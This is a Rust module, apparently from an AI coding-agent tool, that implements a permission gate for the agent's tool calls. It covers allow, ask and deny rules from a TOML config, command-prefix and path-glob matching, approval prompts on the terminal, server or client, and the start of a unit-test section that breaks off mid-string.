//! Permissions: which tool calls may run, from the `[permissions]` table of `recursive.toml`.
//!
//! ```toml
//! [permissions]
//! default_read = "allow"     # read-only tools
//! default_write = "ask"      # tools that write or run commands
//! default_mcp = "ask"        # tools of MCP servers (`server__tool`)
//! default_network = "ask"    # built-in tools that reach the network (`web_fetch`)
//! max_denials = 3            # denied calls that end a run
//!
//! [[permissions.rules]]
//! tool = "run_shell"
//! command_prefix = "git status"
//! action = "allow"
//!
//! [[permissions.rules]]
//! tool = "write_file"
//! path = "src/**"
//! action = "allow"
//! ```
//!
//! How a call is decided, in this order:
//!
//! 1. A call to a tool the registry does not have is allowed: it fails anyway, with the list of
//!    known tools, and must not count as a denial.
//! 2. The rules, in the order they are written: the **first** rule that matches decides.
//!    A rule matches when all of its conditions hold:
//!    - `tool`: the tool name, or a glob over names (`fs__*`, `*`);
//!    - `command_prefix` (for `run_shell`): the command line is taken apart first (see
//!      [`crate::command`]): every simple command it runs — each part of a list or pipeline,
//!      each command substitution, what `env`, `sudo`, `xargs`, `timeout`, `sh -c`, `find -exec`
//!      and the other wrappers run — is decided **on its own**, and the call gets the most
//!      restrictive of their actions (deny, then ask, then allow). A part matches the prefix when
//!      its words, unquoted and with the command name reduced to its base name, start with the
//!      prefix's words (`git status` matches `/usr/bin/git  status -s`, not `git statusx`;
//!      `rm` matches `\rm`, `'rm'`, `env rm`, `sh -c 'rm …'`, `find … -delete`). An `allow` rule
//!      never matches a part that writes a file through a redirection, whose name comes from an
//!      expansion (`$CMD`), or a `git` given `-c`. A line that cannot be taken apart (here-documents,
//!      `case`, unbalanced quotes) is one opaque part: `allow` prefixes never match it, `deny` and
//!      `ask` prefixes match when any `;`/`&`/`|`-separated piece of its text starts with them;
//!    - `path` (a glob, `**` crosses directories, `*` does not): the paths the call touches —
//!      the `path` argument, the workspace root for `list_dir`/`search_files` without one, or
//!      every file named in an `apply_patch` patch — taken relative to the workspace root. An
//!      `allow` rule needs every path to match; `deny` and `ask` rules need one. A call that
//!      touches no path never matches a rule with `path`.
//! 3. Without a matching rule: tools of MCP servers (their origin, not their name) get `default_mcp`,
//!    tools that reach the network `default_network`, read-only tools `default_read`, every other
//!    tool `default_write`.
//!
//! `ask` goes to the [`ApprovalHandler`] unless the user already answered "always" for that
//! tool in this session. [`TerminalApprover`] prompts on the terminal; where no terminal is
//! attached it denies at once with the reason "no terminal to ask; pass --yes to approve or add
//! a rule" (it never waits). [`FixedApprover`] answers every question the same way (`--yes`,
//! `--no-ask`). The verdict's reason names the rule, default or answer that decided; the agent
//! loop logs it as a permission event and, on denial, gives it to the model as the result.

use std::collections::BTreeSet;
use std::io::{BufRead, IsTerminal, Write};
use std::path::{Component, Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use globset::{Glob, GlobBuilder, GlobMatcher};
use recursive_core::config_trust::KeyClass;
use recursive_core::{
    AnswerBoard, ClientAnswer, EventKind, GateVerdict, PathScreen, RunScope, Tool, ToolCall, ToolGate, ToolOrigin,
    call_arguments,
};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use crate::command::{self, Parsed, SimpleCommand};
use crate::mode::Mode;
use crate::sandbox::Workspace;

/// What to do with a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "lowercase")]
#[schemars(extend("x-trust" = KeyClass::scale(&["allow", "ask", "deny"])))]
pub enum Action {
    /// Run it.
    Allow,
    /// Ask the approval handler.
    Ask,
    /// Refuse it.
    Deny,
}

impl Action {
    fn as_str(self) -> &'static str {
        match self {
            Action::Allow => "allow",
            Action::Ask => "ask",
            Action::Deny => "deny",
        }
    }
}

/// The `[permissions]` table.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(default, deny_unknown_fields)]
pub struct PermissionsConfig {
    /// Action for read-only tools without a matching rule. Default: allow.
    pub default_read: Action,
    /// Action for other built-in tools without a matching rule. Default: ask.
    pub default_write: Action,
    /// Action for MCP tools (`server__tool`) without a matching rule. Default: ask.
    pub default_mcp: Action,
    /// Action for tools that reach the network (`web_fetch`) without a matching rule. Default: ask.
    pub default_network: Action,
    /// Denied calls after which a run ends with `permission_denial_limit`; the CLI copies it
    /// into `RunLimits::max_permission_denials`. Default: 3.
    #[schemars(extend("x-trust" = KeyClass::cap()))]
    pub max_denials: u32,
    /// Rules, first match wins.
    #[schemars(extend("x-trust" = KeyClass::Rules { tightening: vec!["deny".into(), "ask".into()] }))]
    pub rules: Vec<PermissionRule>,
    /// How much a session asks ([`crate::mode`]): ask, accept-edits, plan or auto. Default: ask.
    pub mode: crate::mode::Mode,
}

impl Default for PermissionsConfig {
    fn default() -> Self {
        Self {
            default_read: Action::Allow,
            default_write: Action::Ask,
            default_mcp: Action::Ask,
            default_network: Action::Ask,
            max_denials: 3,
            rules: Vec::new(),
            mode: crate::mode::Mode::Ask,
        }
    }
}

/// One `[[permissions.rules]]` entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct PermissionRule {
    /// Tool name or glob over tool names.
    pub tool: String,
    /// For `run_shell`: prefix of the `command` argument.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command_prefix: Option<String>,
    /// Glob over the paths the call touches, relative to the workspace root.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    /// What to do when the rule matches.
    pub action: Action,
}

impl PermissionRule {
    fn describe(&self, index: usize) -> String {
        let mut parts = vec![format!("tool `{}`", self.tool)];
        if let Some(p) = &self.command_prefix {
            parts.push(format!("command prefix `{p}`"));
        }
        if let Some(p) = &self.path {
            parts.push(format!("path `{p}`"));
        }
        format!("rule #{} ({})", index + 1, parts.join(", "))
    }
}

/// A rule that cannot be used.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
#[non_exhaustive]
pub enum PermissionsError {
    /// A glob does not parse.
    #[error("permission rule #{rule}: invalid {field} glob `{glob}`: {message}")]
    BadGlob {
        /// 1-based rule number.
        rule: usize,
        /// `tool` or `path`.
        field: &'static str,
        /// The glob.
        glob: String,
        /// The parser's message.
        message: String,
    },
    /// A rule has an empty `command_prefix`.
    #[error("permission rule #{rule}: `command_prefix` is empty")]
    EmptyPrefix {
        /// 1-based rule number.
        rule: usize,
    },
    /// A rule's `command_prefix` cannot be split into words (an unbalanced quote).
    #[error("permission rule #{rule}: `command_prefix` `{prefix}` cannot be split into words")]
    BadPrefix {
        /// 1-based rule number.
        rule: usize,
        /// The prefix.
        prefix: String,
    },
}

/// An answer to "may this call run?".
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum Approval {
    /// Run this call.
    Yes,
    /// Refuse this call.
    No,
    /// Refuse this call and tell the model why (the person's words).
    NoBecause(String),
    /// Run this call and every later call of the same tool that the same rule asks about, in
    /// this session.
    Always,
}

/// Answers the `ask` action.
#[async_trait]
pub trait ApprovalHandler: Send + Sync {
    /// Asks whether `call` may run; `reason` says which rule or default asked.
    async fn approve(&self, call: &ToolCall, reason: &str) -> Approval;

    /// [`approve`](Self::approve) for a call of the run `scope` at `step` (what the policy calls):
    /// a handler that asks through the run overrides it.
    async fn approve_in(&self, call: &ToolCall, reason: &str, _scope: &RunScope, _step: u32) -> Approval {
        self.approve(call, reason).await
    }

    /// Why this handler cannot ask at all right now (the call is then denied with this
    /// reason), or `None` when it can.
    fn unavailable(&self) -> Option<String> {
        None
    }

    /// How an answer is reported in the verdict's reason.
    fn describe(&self, answer: &Approval) -> String {
        match answer {
            Approval::Yes => "approved by the user".into(),
            Approval::Always => "approved by the user for the rest of the session".into(),
            Approval::No => "declined by the user".into(),
            Approval::NoBecause(why) => format!("declined by the user, who says: {why}"),
        }
    }
}

/// Gives the same answer to every question: `FixedApprover(Approval::Yes)` for `--yes`,
/// `FixedApprover(Approval::No)` for `--no-ask`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FixedApprover(pub Approval);

#[async_trait]
impl ApprovalHandler for FixedApprover {
    async fn approve(&self, _call: &ToolCall, _reason: &str) -> Approval {
        self.0.clone()
    }

    fn describe(&self, answer: &Approval) -> String {
        match answer {
            Approval::Yes | Approval::Always => "approved without asking (--yes)".into(),
            Approval::No | Approval::NoBecause(_) => "asking is turned off (--no-ask); add a rule to allow it".into(),
        }
    }
}

/// The approval handler of a server: nobody can be asked, so every `ask` is denied with a
/// reason that says how to allow the tool.
#[derive(Debug, Clone, Copy, Default)]
pub struct ServerApprover;

/// The reason a server gives for an `ask` it had to deny.
pub const SERVER_ASK_REASON: &str =
    "the server cannot ask anyone; allow this tool with a rule in the server's [permissions] table";

#[async_trait]
impl ApprovalHandler for ServerApprover {
    async fn approve(&self, _call: &ToolCall, _reason: &str) -> Approval {
        Approval::No
    }

    fn unavailable(&self) -> Option<String> {
        Some(SERVER_ASK_REASON.to_string())
    }
}

/// Asks the client of a served run: an `ask` event on the run's stream announces the question,
/// which the client answers by its id on the [`AnswerBoard`] (the server's endpoint); no answer
/// within the timeout is a denial. Outside a run (no scope) nobody can be asked: denied.
#[derive(Debug, Clone)]
pub struct ClientApprover {
    board: Arc<AnswerBoard>,
    timeout: Duration,
}

impl ClientApprover {
    /// Questions go on `board`; each waits at most `timeout`.
    pub fn new(board: Arc<AnswerBoard>, timeout: Duration) -> Self {
        Self { board, timeout }
    }
}

#[async_trait]
impl ApprovalHandler for ClientApprover {
    async fn approve(&self, _call: &ToolCall, _reason: &str) -> Approval {
        Approval::NoBecause("no client to ask outside a run".into())
    }

    async fn approve_in(&self, call: &ToolCall, reason: &str, scope: &RunScope, step: u32) -> Approval {
        let question = self.board.open();
        let timeout_ms = u64::try_from(self.timeout.as_millis()).unwrap_or(u64::MAX);
        scope.emit(
            step,
            EventKind::Ask {
                ask: question.id.clone(),
                id: call.id.clone(),
                name: call.name.clone(),
                arguments: call.arguments.clone(),
                reason: reason.to_string(),
                timeout_ms,
            },
        );
        match question.wait(self.timeout).await {
            Some(ClientAnswer { allow: true, .. }) => Approval::Yes,
            Some(ClientAnswer { reason: Some(why), .. }) => Approval::NoBecause(why),
            Some(ClientAnswer { reason: None, .. }) => Approval::No,
            None => Approval::NoBecause(format!("no answer within {} s", self.timeout.as_secs())),
        }
    }

    fn describe(&self, answer: &Approval) -> String {
        match answer {
            Approval::Yes | Approval::Always => "approved by the client".into(),
            Approval::No => "declined by the client".into(),
            Approval::NoBecause(why) => format!("not approved by the client: {why}"),
        }
    }
}

/// The reason given when an `ask` cannot reach a human.
pub const NO_TERMINAL_REASON: &str = "no terminal to ask; pass --yes to approve or add a rule";

type ReadLine = Arc<dyn Fn() -> Option<String> + Send + Sync>;
type WriteText = Arc<dyn Fn(&str) + Send + Sync>;

/// Asks on the terminal: the question goes to stderr and the answer (`y`, `n` or `a`) is read
/// from stdin. Without a terminal on both, every question is denied at once with
/// [`NO_TERMINAL_REASON`]. Questions from concurrent calls are asked one at a time.
pub struct TerminalApprover {
    interactive: bool,
    read_line: ReadLine,
    write: WriteText,
    turn: tokio::sync::Mutex<()>,
}

impl std::fmt::Debug for TerminalApprover {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TerminalApprover").field("interactive", &self.interactive).finish()
    }
}

impl Default for TerminalApprover {
    fn default() -> Self {
        Self::new()
    }
}

/// Wrong answers accepted before the question counts as declined.
const MAX_PROMPTS: usize = 3;

/// Characters of the arguments shown in a question.
const SHOWN_ARGS_CHARS: usize = 2000;

impl TerminalApprover {
    /// Asks on this process's terminal.
    pub fn new() -> Self {
        Self {
            interactive: std::io::stdin().is_terminal() && std::io::stderr().is_terminal(),
            read_line: Arc::new(|| {
                let mut line = String::new();
                match std::io::stdin().lock().read_line(&mut line) {
                    Ok(0) | Err(_) => None,
                    Ok(_) => Some(line),
                }
            }),
            write: Arc::new(|text| {
                let mut err = std::io::stderr().lock();
                let _ = err.write_all(text.as_bytes());
                let _ = err.flush();
            }),
            turn: tokio::sync::Mutex::new(()),
        }
    }

    /// Whether a terminal is attached (questions will be asked).
    pub fn is_interactive(&self) -> bool {
        self.interactive
    }

    #[cfg(test)]
    fn scripted(answers: &[&str], interactive: bool) -> (Self, Arc<Mutex<String>>) {
        let answers = Arc::new(Mutex::new(answers.iter().map(|s| format!("{s}\n")).collect::<Vec<_>>()));
        let shown = Arc::new(Mutex::new(String::new()));
        let out = shown.clone();
        let me = Self {
            interactive,
            read_line: Arc::new(move || {
                let mut a = answers.lock().ok()?;
                if a.is_empty() { None } else { Some(a.remove(0)) }
            }),
            write: Arc::new(move |t| {
                if let Ok(mut s) = out.lock() {
                    s.push_str(t);
                }
            }),
            turn: tokio::sync::Mutex::new(()),
        };
        (me, shown)
    }
}

#[async_trait]
impl ApprovalHandler for TerminalApprover {
    async fn approve(&self, call: &ToolCall, reason: &str) -> Approval {
        let _turn = self.turn.lock().await;
        let args = match &call.arguments {
            Value::String(s) => s.clone(),
            v => serde_json::to_string_pretty(v).unwrap_or_else(|_| v.to_string()),
        };
        let args = crate::truncate::clip_chars(&args, SHOWN_ARGS_CHARS);
        (self.write)(&format!("\n? permission: `{}` ({reason})\n{args}\n", call.name));
        for _ in 0..MAX_PROMPTS {
            (self.write)("Allow? [y]es / [n]o / [a]lways for this tool in this session: ");
            let read = self.read_line.clone();
            let line = tokio::task::spawn_blocking(move || read()).await.ok().flatten();
            let Some(line) = line else {
                (self.write)("\n");
                return Approval::No;
            };
            match line.trim().to_ascii_lowercase().as_str() {
                "y" | "yes" => return Approval::Yes,
                "n" | "no" | "" => return Approval::No,
                "a" | "always" => return Approval::Always,
                _ => (self.write)("Please answer y, n or a.\n"),
            }
        }
        Approval::No
    }

    fn unavailable(&self) -> Option<String> {
        (!self.interactive).then(|| NO_TERMINAL_REASON.to_string())
    }
}

/// The approval handler for the CLI's flags: `--yes` approves everything, `--no-ask` denies
/// every `ask`, neither asks on the terminal (denying when there is none).
pub fn approver_for_flags(yes: bool, no_ask: bool) -> Arc<dyn ApprovalHandler> {
    if yes {
        Arc::new(FixedApprover(Approval::Yes))
    } else if no_ask {
        Arc::new(FixedApprover(Approval::No))
    } else {
        Arc::new(TerminalApprover::new())
    }
}

#[derive(Clone)]
struct CompiledRule {
    rule: PermissionRule,
    tool: GlobMatcher,
    path: Option<GlobMatcher>,
    /// The `command_prefix` as words.
    prefix: Option<Vec<String>>,
}

/// The part of a `run_shell` call a rule is matched against.
enum Part<'a> {
    /// A call without a command line.
    Whole,
    /// One simple command of the line.
    Command(&'a SimpleCommand),
    /// A line that could not be taken apart.
    Opaque(&'a str),
}

/// The permission gate: rules, defaults and an approval handler (see the module docs for the
/// order in which they apply).
pub struct PermissionPolicy {
    config: PermissionsConfig,
    rules: Vec<CompiledRule>,
    approver: Arc<dyn ApprovalHandler>,
    workspace: Option<Workspace>,
    always: Mutex<BTreeSet<String>>,
    mode: crate::mode::ModeSwitch,
}

impl std::fmt::Debug for PermissionPolicy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PermissionPolicy").field("config", &self.config).finish()
    }
}

/// A decision before any question is asked: the action and what chose it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleDecision {
    /// The action.
    pub action: Action,
    /// The rule or default that chose it, e.g. `rule #2 (tool `run_shell`, command prefix `git`)`.
    pub source: String,
}

impl PermissionPolicy {
    /// A policy from the configuration; fails on a rule that cannot be used.
    pub fn new(config: PermissionsConfig, approver: Arc<dyn ApprovalHandler>) -> Result<Self, PermissionsError> {
        let mut rules = Vec::with_capacity(config.rules.len());
        for (i, rule) in config.rules.iter().enumerate() {
            let bad = |field: &'static str, glob: &str, e: globset::Error| PermissionsError::BadGlob {
                rule: i + 1,
                field,
                glob: glob.to_string(),
                message: e.kind().to_string(),
            };
            let tool = Glob::new(&rule.tool).map_err(|e| bad("tool", &rule.tool, e))?.compile_matcher();
            let path = match &rule.path {
                Some(p) => Some(
                    GlobBuilder::new(p)
                        .literal_separator(true)
                        .build()
                        .map_err(|e| bad("path", p, e))?
                        .compile_matcher(),
                ),
                None => None,
            };
            let prefix = match rule.command_prefix.as_deref() {
                Some(p) if p.trim().is_empty() => return Err(PermissionsError::EmptyPrefix { rule: i + 1 }),
                Some(p) => Some(
                    command::prefix_words(p)
                        .ok_or_else(|| PermissionsError::BadPrefix { rule: i + 1, prefix: p.to_string() })?,
                ),
                None => None,
            };
            rules.push(CompiledRule { rule: rule.clone(), tool, path, prefix });
        }
        let mode = crate::mode::ModeSwitch::new(config.mode);
        Ok(Self { config, rules, approver, workspace: None, always: Mutex::new(BTreeSet::new()), mode })
    }

    /// Takes path arguments relative to this workspace (symlinks resolved) when matching `path`
    /// globs; without it paths are only normalised as text.
    pub fn with_workspace(mut self, workspace: Workspace) -> Self {
        self.workspace = Some(workspace);
        self
    }

    /// The mode in force ([`crate::mode`]), to switch it mid-session.
    pub fn mode(&self) -> crate::mode::ModeSwitch {
        self.mode.clone()
    }

    /// The configuration.
    pub fn config(&self) -> &PermissionsConfig {
        &self.config
    }

    /// Tools the user approved for the rest of the session (under some rule).
    pub fn approved_for_session(&self) -> Vec<String> {
        let always = self.always.lock().map(|s| s.clone()).unwrap_or_default();
        let tools: BTreeSet<String> =
            always.iter().map(|k| k.rsplit('\u{1f}').next().unwrap_or(k).to_string()).collect();
        tools.into_iter().collect()
    }

    /// The rule or default that applies to a call, before any question is asked. A call with
    /// a command line is decided part by part; the most restrictive part decides.
    pub fn decide(&self, call: &ToolCall, tool: &dyn Tool) -> RuleDecision {
        let args = call_arguments(call).unwrap_or_default();
        let Some(line) = args.get("command").and_then(Value::as_str) else {
            return self.decide_part(&Part::Whole, call, tool, &args);
        };
        let parsed = command::parse(line);
        let parts: Vec<Part<'_>> = match &parsed {
            Parsed::Commands(commands) if !commands.is_empty() => commands.iter().map(Part::Command).collect(),
            Parsed::Commands(_) => vec![Part::Whole],
            Parsed::Opaque(_) => vec![Part::Opaque(line)],
        };
        let mut decided: Option<(RuleDecision, &Part<'_>)> = None;
        for part in &parts {
            let d = self.decide_part(part, call, tool, &args);
            if decided.as_ref().is_none_or(|(best, _)| strictness(d.action) > strictness(best.action)) {
                decided = Some((d, part));
            }
        }
        let Some((mut decision, part)) = decided else { return self.decide_part(&Part::Whole, call, tool, &args) };
        if parts.len() > 1 || matches!(part, Part::Opaque(_)) {
            let what = match part {
                Part::Command(c) => format!("`{}`", crate::truncate::clip_chars(&c.display(), 200)),
                Part::Opaque(_) => "the whole line (it could not be taken apart)".into(),
                Part::Whole => "the call".into(),
            };
            decision.source = format!("{} for {what}", decision.source);
        }
        decision
    }

    fn decide_part(
        &self,
        part: &Part<'_>,
        call: &ToolCall,
        tool: &dyn Tool,
        args: &Map<String, Value>,
    ) -> RuleDecision {
        for (i, compiled) in self.rules.iter().enumerate() {
            if self.rule_matches(compiled, part, call, tool, args) {
                return RuleDecision { action: compiled.rule.action, source: compiled.rule.describe(i) };
            }
        }
        if matches!(tool.origin(), ToolOrigin::Mcp { .. }) {
            RuleDecision { action: self.config.default_mcp, source: "default for MCP tools".into() }
        } else if tool.reaches_network() {
            RuleDecision { action: self.config.default_network, source: "default for network tools".into() }
        } else if tool.read_only() {
            RuleDecision { action: self.config.default_read, source: "default for read-only tools".into() }
        } else {
            RuleDecision {
                action: self.config.default_write,
                source: "default for tools that write or run commands".into(),
            }
        }
    }

    fn rule_matches(
        &self,
        compiled: &CompiledRule,
        part: &Part<'_>,
        call: &ToolCall,
        tool: &dyn Tool,
        args: &Map<String, Value>,
    ) -> bool {
        if !compiled.tool.is_match(&call.name) {
            return false;
        }
        let allow = compiled.rule.action == Action::Allow;
        if let Some(prefix) = &compiled.prefix {
            let matched = match part {
                Part::Whole => false,
                Part::Command(c) => (!allow || c.allowable) && (c.starts_with(prefix) || (!allow && c.dynamic_name)),
                Part::Opaque(text) => !allow && text_has_prefix(text, prefix),
            };
            if !matched {
                return false;
            }
        }
        if let Some(glob) = &compiled.path {
            // The tool declares which of its arguments are paths.
            let Some(paths) = tool.paths(args) else { return false };
            if paths.is_empty() {
                return false;
            }
            let mut normalised = Vec::with_capacity(paths.len());
            for p in &paths {
                match self.normalise(p) {
                    Some(n) => normalised.push(n),
                    // A path outside the workspace matches no path rule (the tool refuses it).
                    None if allow => return false,
                    None => {}
                }
            }
            let matched = |p: &String| glob.is_match(p.as_str());
            let ok = if allow { normalised.iter().all(matched) } else { normalised.iter().any(matched) };
            if !ok {
                return false;
            }
        }
        true
    }

    fn normalise(&self, path: &str) -> Option<String> {
        match &self.workspace {
            Some(ws) => {
                let resolved = ws.resolve(path).ok()?;
                Some(ws.display_relative(&resolved))
            }
            None => lexical(path),
        }
    }
}

/// Normalises a path as text: `.` and `..` folded, no leading `./`; `None` when `..` climbs
/// above the start.
fn lexical(path: &str) -> Option<String> {
    let mut out = PathBuf::new();
    for c in Path::new(path).components() {
        match c {
            Component::CurDir => {}
            Component::ParentDir => {
                if !out.pop() {
                    return None;
                }
            }
            other => out.push(other.as_os_str()),
        }
    }
    let s = out.display().to_string();
    Some(if s.is_empty() { ".".into() } else { s })
}

/// Deny before ask before allow.
fn strictness(action: Action) -> u8 {
    match action {
        Action::Allow => 0,
        Action::Ask => 1,
        Action::Deny => 2,
    }
}

/// For a line that could not be taken apart: whether any piece of it between shell operators
/// starts with the prefix's words.
fn text_has_prefix(text: &str, prefix: &[String]) -> bool {
    text.split(['\n', ';', '&', '|', '`', '(', ')']).any(|piece| {
        let words: Vec<&str> = piece.split_whitespace().collect();
        prefix.len() <= words.len()
            && prefix.iter().zip(&words).enumerate().all(|(i, (p, w))| {
                let w = w.trim_matches(['\'', '"', '\\']);
                if i == 0 { p == w.rsplit('/').next().unwrap_or(w) } else { p == w }
            })
    })
}

#[async_trait]
impl ToolGate for PermissionPolicy {
    async fn check(&self, call: &ToolCall, tool: Option<&Arc<dyn Tool>>) -> GateVerdict {
        self.check_in(call, tool, &RunScope::detached("permissions"), 0).await
    }

    async fn check_in(
        &self,
        call: &ToolCall,
        tool: Option<&Arc<dyn Tool>>,
        scope: &RunScope,
        step: u32,
    ) -> GateVerdict {
        let Some(tool) = tool else {
            return GateVerdict::allow("unknown tool; the call fails and lists the known tools");
        };
        let RuleDecision { action, source } = self.decide(call, tool.as_ref());
        let mode = self.mode.get();
        if mode == Mode::Plan && !tool.read_only() && action != Action::Deny {
            let rule = format!("{source}: {}", action.as_str());
            return GateVerdict::deny(format!("mode plan: nothing changes until the plan is approved ({rule})"));
        }
        match action {
            Action::Allow => GateVerdict::allow(format!("{source}: allow")),
            Action::Deny => GateVerdict::deny(format!("{source}: deny")),
            Action::Ask if mode == Mode::Auto => GateVerdict::allow(format!("{source}: ask; approved by mode auto")),
            Action::Ask
                if mode == Mode::AcceptEdits
                    && call_arguments(call).is_ok_and(|args| crate::mode::is_edit(tool.as_ref(), &args)) =>
            {
                GateVerdict::allow(format!("{source}: ask; a file edit, approved by mode accept-edits"))
            }
            Action::Ask => {
                // "Always" holds for this tool under the rule (or default) that asked.
                let always_key = format!("{source}\u{1f}{}", call.name);
                if self.always.lock().map(|s| s.contains(&always_key)).unwrap_or(false) {
                    return GateVerdict::allow(format!(
                        "{source}: ask; `{}` was approved under this rule for the rest of the session",
                        call.name
                    ));
                }
                if let Some(why) = self.approver.unavailable() {
                    return GateVerdict::deny(format!("{source}: ask; {why}"));
                }
                let how = tool.confinement().map(|c| format!("; {c}")).unwrap_or_default();
                let asked = format!("{source}: {}{how}", Action::Ask.as_str());
                let answer = self.approver.approve_in(call, &asked, scope, step).await;
                let said = self.approver.describe(&answer);
                match answer {
                    Approval::Yes => GateVerdict::allow(format!("{asked}; {said}")),
                    Approval::Always => {
                        if let Ok(mut s) = self.always.lock() {
                            s.insert(always_key);
                        }
                        GateVerdict::allow(format!("{asked}; {said}"))
                    }
                    Approval::No | Approval::NoBecause(_) => GateVerdict::deny(format!("{asked}; {said}")),
                }
            }
        }
    }

    /// The path rules for this tool that deny or ask: what they match stays out of search and
    /// listing results (first matching rule wins, as for calls).
    fn screen(&self, call: &ToolCall, _tool: &Arc<dyn Tool>) -> Option<Arc<dyn PathScreen>> {
        let rules: Vec<(GlobMatcher, Action)> = self
            .rules
            .iter()
            .filter(|r| r.prefix.is_none() && r.tool.is_match(&call.name))
            .filter_map(|r| r.path.clone().map(|g| (g, r.rule.action)))
            .collect();
        if rules.iter().all(|(_, a)| *a == Action::Allow) {
            return None;
        }
        Some(Arc::new(RuleScreen { rules, workspace: self.workspace.clone() }))
    }
}

/// Hides paths whose first matching path rule denies or asks.
struct RuleScreen {
    rules: Vec<(GlobMatcher, Action)>,
    workspace: Option<Workspace>,
}

impl std::fmt::Debug for RuleScreen {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RuleScreen").field("rules", &self.rules.len()).finish()
    }
}

impl RuleScreen {
    fn hides_text(&self, path: &str) -> bool {
        self.rules.iter().find(|(g, _)| g.is_match(path)).is_some_and(|(_, a)| *a != Action::Allow)
    }
}

impl PathScreen for RuleScreen {
    /// Both the path as shown and where it leads (symlinks resolved) are checked.
    fn hides(&self, path: &str) -> bool {
        let shown = lexical(path).unwrap_or_else(|| path.to_string());
        if self.hides_text(&shown) {
            return true;
        }
        let Some(ws) = &self.workspace else { return false };
        match ws.resolve(path) {
            Ok(resolved) => self.hides_text(&ws.display_relative(&resolved)),
            Err(_) => false,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use recursive_core::{Decision, ToolContext, ToolError, ToolSpec};
    use serde_json::json;

    struct Fake {
        name: &'static str,
        read_only: bool,
    }

    #[async_trait]
    impl Tool for Fake {
        fn spec(&self) -> ToolSpec {
            ToolSpec { name: self.name.into(), description: String::new(), parameters: json!({"type": "object"}) }
        }
        async fn call(&self, _a: Value, _c: &ToolContext) -> Result<String, ToolError> {
            Ok(String::new())
        }
        fn read_only(&self) -> bool {
            self.read_only
        }
        // The fakes declare their paths and origin as the real tools of the same names do.
        fn origin(&self) -> ToolOrigin {
            match self.name.split_once("__") {
                Some((server, _)) => ToolOrigin::Mcp { server: server.into() },
                None => ToolOrigin::Local,
            }
        }
        fn paths(&self, args: &Map<String, Value>) -> Option<Vec<String>> {
            match self.name {
                "apply_patch" => {
                    let patch = crate::apply_patch::parse_patch(args.get("patch")?.as_str()?).ok()?;
                    Some(patch.paths().into_iter().map(str::to_string).collect())
                }
                "list_dir" | "search_files" => recursive_core::path_arguments(args, &["path"], Some(".")),
                _ => recursive_core::path_arguments(args, &["path"], None),
            }
        }
    }

    fn tool(name: &'static str, read_only: bool) -> Arc<dyn Tool> {
        Arc::new(Fake { name, read_only })
    }

    fn call(name: &str, args: Value) -> ToolCall {
        ToolCall { id: "c1".into(), name: name.into(), arguments: args }
    }

    /// A handler that records the questions and answers from a script.
    struct Scripted {
        answers: Mutex<Vec<Approval>>,
        asked: Mutex<Vec<String>>,
    }

    impl Scripted {
        fn new(answers: &[Approval]) -> Arc<Self> {
            Arc::new(Self { answers: Mutex::new(answers.to_vec()), asked: Mutex::new(Vec::new()) })
        }
        fn asked(&self) -> Vec<String> {
            self.asked.lock().unwrap().clone()
        }
    }

    #[async_trait]
    impl ApprovalHandler for Scripted {
        async fn approve(&self, call: &ToolCall, reason: &str) -> Approval {
            self.asked.lock().unwrap().push(format!("{}: {reason}", call.name));
            let mut a = self.answers.lock().unwrap();
            if a.is_empty() { Approval::No } else { a.remove(0) }
        }
    }

    fn config(toml_text: &str) -> PermissionsConfig {
        #[derive(Deserialize)]
        struct File {
            permissions: PermissionsConfig,
        }
        toml::from_str::<File>(toml_text).unwrap().permissions
    }

    fn policy(toml_text: &str, approver: Arc<dyn ApprovalHandler>) -> PermissionPolicy {
        PermissionPolicy::new(config(toml_text), approver).unwrap()
    }

    async fn verdict(p: &PermissionPolicy, name: &'static str, read_only: bool, args: Value) -> GateVerdict {
        p.check(&call(name, args), Some(&tool(name, read_only))).await
    }

    const EXAMPLE: &str = r#"
        [permissions]
        default_read = "allow"
        default_write = "ask"
        max_denials = 5
        [[permissions.rules]]
        tool = "run_shell"
        command_prefix = "git status"
        action = "allow"
        [[permissions.rules]]
        tool = "write_file"
        path = "src/**"
        action = "allow"
        [[permissions.rules]]
        tool = "run_shell"
        command_prefix = "rm "
        action = "deny"
    "#;

    #[test]
    fn config_parses_from_the_documented_toml() {
        let c = config(EXAMPLE);
        assert_eq!(c.max_denials, 5);
        assert_eq!(c.default_mcp, Action::Ask);
        assert_eq!(c.rules.len(), 3);
        assert_eq!(c.rules[0].command_prefix.as_deref(), Some("git status"));
        assert_eq!(c.rules[1].path.as_deref(), Some("src/**"));
        assert_eq!(c.rules[2].action, Action::Deny);
    }

    #[test]
    fn unknown_actions_and_fields_are_rejected() {
        assert!(toml::from_str::<PermissionsConfig>("default_read = \"maybe\"").is_err());
        assert!(toml::from_str::<PermissionsConfig>("[[rules]]\ntool = \"x\"\naction = \"allow\"\nfoo = 1").is_err());
    }

    #[test]
    fn bad_globs_are_reported_with_their_rule() {
        let c =
            config("[permissions]\n[[permissions.rules]]\ntool = \"write_file\"\npath = \"src/[\"\naction = \"allow\"");
        let err = PermissionPolicy::new(c, Arc::new(FixedApprover(Approval::No))).unwrap_err();
        assert!(err.to_string().starts_with("permission rule #1: invalid path glob `src/[`"), "{err}");
    }

    #[tokio::test]
    async fn each_mode_answers_what_the_rules_would_ask_and_deny_rules_hold_in_all() {
        let rules = "[permissions]\n[[permissions.rules]]\ntool = \"run_shell\"\ncommand_prefix = \"rm\"\n\
